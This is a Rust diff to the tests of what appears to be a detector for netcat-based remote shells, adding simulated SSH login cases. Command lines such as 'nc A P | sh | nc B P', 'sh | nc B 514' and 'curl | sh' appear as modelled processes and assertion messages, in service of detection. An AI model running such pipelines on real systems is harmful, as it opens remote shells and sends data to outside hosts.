@@ -8,6 +8,8 @@ const FORKED: u32 = 0x40;
 const OTHER: (IpAddr, u16) = (IpAddr::V4(Ipv4Addr::new(198, 51, 100, 7)), 514);
 const IN: u16 = 40_000;
 const OUT: u16 = 40_001;
+const FORWARDED: u16 = 40_002;
+const LOGIN: u16 = 22;
 /// Scans of 10 ms in which nothing happens between two commands.
 const REST: usize = 40;
 
@@ -43,7 +45,21 @@ struct Job {
     is_busy: bool,
     pauses: bool,
     is_accepted: bool,
+    login: Login,
     messages: u32,
+}
+
+/// Where a job was started.
+#[derive(Clone, Copy, Debug, PartialEq)]
+enum Login {
+    /// In none.
+    None,
+    /// `nc A P | sh | nc B P` in a login.
+    Typed,
+    /// `nc A P | sh` in a login whose server connects to B for its user (`ssh -L`).
+    Forwards,
+    /// `sh | nc B P` in a login.
+    Input,
 }
 
 const JOB: Job = Job {
@@ -55,6 +71,7 @@ const JOB: Job = Job {
     is_busy: false,
     pauses: true,
     is_accepted: false,
+    login: Login::None,
     messages: 2,
 };
 
@@ -72,17 +89,30 @@ impl Job {
         let (in_read, in_write) = machine.pipe();
         let (out_read, out_write) = machine.pipe();
         let [into, from] = machine.relay([WRITE, READ], 1_000_000_000);
-        let input = if self.input == Input::Itself { &one } else { &in_read };
+        let terminal = self.log_in(&mut machine, &other);
+        let input = match (self.input, self.login) {
+            (Input::Itself, _) => &one,
+            (_, Login::Input) => &terminal,
+            _ => &in_read,
+        };
+        let output = if self.login == Login::Forwards { &terminal } else { &out_write };
         match self.input {
             Input::Itself => {}
+            _ if self.login == Login::Input => {}
             Input::File => {
                 machine.run(20, "nc", "nc A 4444", &[(1, &into), (3, &one)]);
                 machine.run(21, "tail", "tail -f file", &[(1, &in_write), (3, &from)]);
             }
-            _ => machine.run(20, "nc", "nc A 4444", &[(1, &in_write), (3, &one)]),
+            _ => {
+                let files = [(0, &terminal), (1, &in_write), (2, &terminal), (3, &one)];
+                machine.run(20, "nc", "nc A 4444", &files);
+            }
         }
-        machine.run(22, "dash", self.line, &[(0, input), (1, &out_write), (2, &out_write)]);
-        machine.run(23, "nc", "nc B 514", &[(0, &out_read), (3, &other)]);
+        machine.run(22, "dash", self.line, &[(0, input), (1, output), (2, output)]);
+        if self.login != Login::Forwards {
+            let files = [(0, &out_read), (1, &terminal), (2, &terminal), (3, &other)];
+            machine.run(23, "nc", "nc B 514", &files);
+        }
         machine.world.process(22).flags = self.flags;
         if self.is_busy {
             machine.run(30, "sleep", "sleep 999", &[(1, &out_write)]);
@@ -93,6 +123,20 @@ impl Job {
         machine
     }
 
+    /// The terminal of a login, if there is one. Its server has a connection for its user.
+    fn log_in(&self, machine: &mut Machine, other: &FakeFile) -> FakeFile {
+        if self.login == Login::None {
+            return null();
+        }
+        machine.listener(LOGIN);
+        let login = machine.connection(LOGIN, PEER);
+        let own = machine.connection(FORWARDED, OTHER);
+        let (master, terminal) = machine.terminal();
+        let forwarded = if self.login == Login::Forwards { other } else { &own };
+        machine.run(10, "sshd", "sshd", &[(4, &login), (9, &master), (10, forwarded)]);
+        terminal
+    }
+
     /// What is found while the peer sends its messages.
     fn found(&self) -> Vec<String> {
         let mut machine = self.machine();
@@ -101,7 +145,8 @@ impl Job {
         for message in 0..self.messages {
             let rest = if self.pauses { REST } else { 4 };
             (0..rest).for_each(|_| found.extend(watch.scan(&machine)));
-            machine.counted.get_mut(&IN).unwrap().1 += 3;
+            let port = if self.login == Login::Input { LOGIN } else { IN };
+            machine.counted.entry(port).or_default().1 += 3;
             found.extend(watch.scan(&machine));
             let pid = 100 + message;
             if self.act == Act::Process {
@@ -137,6 +182,31 @@ fn a_shell_between_two_peers_is_reported() {
     assert_eq!(accepted.found(), [""; 0]);
     let expected = "Accepted 40000: 20,23,22 in 20>22 out 22>23 to 40001";
     assert_eq!(Job { messages: 3, ..accepted }.found(), [expected]);
+}
+
+#[test]
+fn a_login_exempts_only_its_own_input() {
+    let typed = Job { login: Login::Typed, ..JOB };
+    assert_eq!(typed.found(), [PIPES]);
+    assert_eq!(Job { act: Act::Builtin, ..typed }.found(), [PIPES]);
+    assert_eq!(Job { asked: 300, messages: 3, ..typed }.found(), [PIPES]);
+    // `nc A P | sh`
+    let terminal = "Outbound 40000: 20,22 in 20>22 out 22";
+    assert_eq!(Job { login: Login::Forwards, ..JOB }.found(), [terminal]);
+}
+
+#[test]
+fn pipelines_that_administrators_type_raise_no_alert() {
+    let typed = Job { login: Login::Forwards, asked: 300, messages: 12, ..JOB };
+    for act in [Act::Process, Act::Builtin] {
+        assert_eq!(Job { act, ..typed }.found(), [""; 0], "curl | sh, ssh host cmd | sh");
+        let accepted = Job { asked: 0, is_accepted: true, act, ..typed };
+        assert_eq!(accepted.found(), [""; 0], "nc -l | sh");
+        let input = Job { login: Login::Input, messages: 12, act, ..JOB };
+        assert_eq!(input.found(), [""; 0], "sh | nc B 514");
+        let piped = Job { login: Login::Typed, pauses: false, ..typed };
+        assert_eq!(Job { act, ..piped }.found(), [""; 0], "curl | sh | nc collector");
+    }
 }
 
 #[test]
